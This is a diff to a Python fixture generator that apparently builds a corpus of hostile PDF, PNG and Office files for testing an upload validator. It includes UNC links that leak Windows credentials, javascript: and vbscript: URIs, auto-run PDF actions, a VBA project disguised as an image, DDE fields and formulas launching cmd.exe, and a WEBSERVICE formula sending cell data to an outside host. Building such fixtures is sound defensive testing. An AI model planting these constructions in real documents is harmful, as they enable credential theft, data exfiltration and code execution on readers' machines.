@@ -93,6 +93,106 @@ def pdf_embedded_file() -> bytes:
     )
 
 
+def _page_with(annotation: bytes) -> bytes:
+    """A one-page PDF whose page carries one annotation (object 4)."""
+    return pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        annotation,
+    )
+
+
+def _link(action: bytes) -> bytes:
+    return _page_with(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A " + action + b" >>")
+
+
+def pdf_limit_array() -> bytes:
+    # About 200 KB: an array of more entries than pypdf reads (100,000); an
+    # unchecked reader raises LimitReachedError.
+    return pdf(b"<< /Type /Catalog /Pages 2 0 R /Kinerja 4 0 R >>", PAGES, PAGE, b"[" + b"0 " * 100_500 + b"]")
+
+
+def pdf_gotor() -> bytes:
+    return _link(b"<< /S /GoToR /F (lampiran.pdf) /D [0 /Fit] >>")
+
+
+def pdf_gotor_unc() -> bytes:
+    # A link to a file on a network share: opening it sends the reader's Windows credentials.
+    return _link(b"<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\berkas\\\\pk.pdf) /D [0 /Fit] >>")
+
+
+def pdf_uri_javascript() -> bytes:
+    return _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")
+
+
+def pdf_uri_file() -> bytes:
+    return _link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")
+
+
+def pdf_uri_unc() -> bytes:
+    # A "web" link to a network share: Windows sends the reader's credentials to it.
+    return _link(b"<< /S /URI /URI (\\\\\\\\198.51.100.7\\\\berkas) >>")
+
+
+def pdf_uri_vbscript() -> bytes:
+    return _link(b"<< /S /URI /URI (vbscript:msgbox\\(1\\)) >>")
+
+
+def pdf_gotor_open_action() -> bytes:
+    # Opening the document itself opens another file, with no click.
+    return pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (lampiran.pdf) /D [0 /Fit] >> >>",
+        PAGES,
+        PAGE,
+    )
+
+
+def pdf_3d_on_instantiate() -> bytes:
+    # A 3D annotation whose stream runs a script when the model is loaded.
+    return pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        b"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 5 0 R >>",
+        b"<< /Type /3D /Subtype /U3D /OnInstantiate 6 0 R /Length 0 >>\nstream\n\nendstream",
+        b"<< /Length %d >>\nstream\n" % len(ALERT) + ALERT + b"\nendstream",
+    )
+
+
+def pdf_rich_media() -> bytes:
+    return _page_with(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>")
+
+
+def pdf_rendition() -> bytes:
+    return _link(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (film.swf) >> >> >>")
+
+
+def pdf_screen() -> bytes:
+    return _page_with(b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] >>")
+
+
+def pdf_sound_action() -> bytes:
+    return _link(b"<< /S /Sound /Sound << /R 8000 /Length 0 >> >>")
+
+
+def pdf_sound_annotation() -> bytes:
+    return _page_with(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] /Sound << /R 8000 >> >>")
+
+
+def pdf_movie() -> bytes:
+    return _page_with(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 100 100] /Movie << /F (film.mov) >> >>")
+
+
+def pdf_page_additional_action() -> bytes:
+    # A page action run when the page is shown (/AA /O), here only a jump: the page's /AA itself is refused.
+    return pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
+    )
+
+
 def pdf_truncated() -> bytes:
     # A real three-page PDF cut short, as an interrupted transfer leaves it.
     whole = pdf(
@@ -313,6 +413,166 @@ def macro_workbook() -> bytes:
     return out.getvalue()
 
 
+def png_html_polyglot() -> bytes:
+    """A real 1×1 PNG whose text chunk is an HTML page: a browser told it is HTML runs the script."""
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"tEXt", b"Comment\x00" + html_page())
+        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
+        + chunk(b"IEND", b"")
+    )
+
+
+def _package(parts: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, content in parts.items():
+            target.writestr(zipfile.ZipInfo(name, date_time=FIXED_DATE), content, compress_type=zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def _with_parts(data: bytes, overrides: dict[str, str], parts: dict[str, bytes]) -> bytes:
+    """An Office package with more parts, and their content types declared (Override)."""
+    with zipfile.ZipFile(io.BytesIO(data)) as source:
+        contents = {info.filename: source.read(info) for info in source.infolist()}
+    declared = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items())
+    contents["[Content_Types].xml"] = contents["[Content_Types].xml"].replace(
+        b"</Types>", declared.encode() + b"</Types>"
+    )
+    contents.update(parts)
+    return _package(contents)
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def _rels(*relationships: str) -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(relationships)
+        + "</Relationships>"
+    ).encode()
+
+
+def document(body: str = "<w:p><w:r><w:t>Bukti kegiatan</w:t></w:r></w:p>", parts: dict | None = None) -> bytes:
+    """A minimal .docx; `parts` are added as they are."""
+    types = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'wordprocessingml.document.main+xml"/></Types>'
+    )
+    contents = {
+        "[Content_Types].xml": types.encode(),
+        "_rels/.rels": _rels(f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'),
+        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode(),
+    }
+    contents.update(parts or {})
+    return _package(contents)
+
+
+def _workbook(formula: str | None = None) -> bytes:
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active["A1"] = "Bukti kegiatan"
+    if formula:
+        workbook.active["B1"] = formula
+    return workbook_bytes(workbook)
+
+
+def macro_renamed_workbook() -> bytes:
+    """A VBA project stored under a picture's name, and declared (as Office requires to run it) a VBA project."""
+    return _with_parts(
+        _workbook(),
+        {"xl/media/gambar1.png": "application/vnd.ms-office.vbaProject"},
+        {"xl/media/gambar1.png": office_encrypted()},
+    )
+
+
+def activex_document() -> bytes:
+    return _with_parts(
+        document(),
+        {"word/controls/kontrol1.xml": "application/vnd.ms-office.activeX+xml"},
+        {"word/controls/kontrol1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'},
+    )
+
+
+def ole_object_document() -> bytes:
+    return _with_parts(
+        document(),
+        {"word/media/objek1.dat": "application/vnd.openxmlformats-officedocument.oleObject"},
+        {"word/media/objek1.dat": office_encrypted()},
+    )
+
+
+def external_template_document() -> bytes:
+    # word/settings.xml names a template on a network share; Word fetches it on opening.
+    relation = (
+        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
+        'Target="file://198.51.100.7/berkas/templat.dotm" TargetMode="External"/>'
+    )
+    settings = f'<w:settings xmlns:w="{W}"><w:attachedTemplate r:id="rId1" xmlns:r="{REL}"/></w:settings>'
+    return document(parts={"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": _rels(relation)})
+
+
+def external_image_document() -> bytes:
+    relation = (
+        f'<Relationship Id="rId9" Type="{REL}/image" Target="http://contoh.invalid/lacak.png" TargetMode="External"/>'
+    )
+    return document(parts={"word/_rels/document.xml.rels": _rels(relation)})
+
+
+def dde_field_document() -> bytes:
+    field = (
+        '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '
+        "</w:instrText></w:r></w:p>"
+    )
+    return document(field)
+
+
+def dde_formula_workbook() -> bytes:
+    return _workbook("=cmd|' /C calc'!A0")
+
+
+def webservice_formula_workbook() -> bytes:
+    return _workbook('=WEBSERVICE("http://contoh.invalid/?curi="&A1)')
+
+
+def hyperlink_formula_workbook() -> bytes:
+    return _workbook('=HYPERLINK("file://198.51.100.7/berkas/","Buka")')
+
+
+def external_link_workbook() -> bytes:
+    """A workbook linked to another on a network share (xl/externalLinks), which Excel offers to update."""
+    relation = (
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'externalLinkPath" Target="file://198.51.100.7/berkas/anggaran.xlsx" TargetMode="External"/>'
+    )
+    return _with_parts(
+        _workbook(),
+        {
+            "xl/externalLinks/externalLink1.xml": (
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+            )
+        },
+        {
+            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+            "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(relation),
+        },
+    )
+
+
 # --- The corpus -------------------------------------------------------------------------------------------------
 
 FILES = {
@@ -329,6 +589,33 @@ FILES = {
     "encrypted.xlsx": office_encrypted,
     "macro.xlsx": macro_workbook,
     "formula-text.xlsx": formula_text_workbook,
+    "limit-array.pdf": pdf_limit_array,
+    "gotor.pdf": pdf_gotor,
+    "gotor-unc.pdf": pdf_gotor_unc,
+    "uri-javascript.pdf": pdf_uri_javascript,
+    "uri-file.pdf": pdf_uri_file,
+    "uri-unc.pdf": pdf_uri_unc,
+    "uri-vbscript.pdf": pdf_uri_vbscript,
+    "gotor-openaction.pdf": pdf_gotor_open_action,
+    "3d-oninstantiate.pdf": pdf_3d_on_instantiate,
+    "richmedia.pdf": pdf_rich_media,
+    "rendition.pdf": pdf_rendition,
+    "screen-annotation.pdf": pdf_screen,
+    "sound-action.pdf": pdf_sound_action,
+    "sound-annotation.pdf": pdf_sound_annotation,
+    "movie.pdf": pdf_movie,
+    "page-aa.pdf": pdf_page_additional_action,
+    "png-html-polyglot.htm": png_html_polyglot,
+    "macro-renamed.xlsx": macro_renamed_workbook,
+    "activex.docx": activex_document,
+    "ole-object.docx": ole_object_document,
+    "external-template.docx": external_template_document,
+    "external-image.docx": external_image_document,
+    "dde-field.docx": dde_field_document,
+    "dde-formula.xlsx": dde_formula_workbook,
+    "webservice-formula.xlsx": webservice_formula_workbook,
+    "hyperlink-formula.xlsx": hyperlink_formula_workbook,
+    "external-link.xlsx": external_link_workbook,
 }
 
 
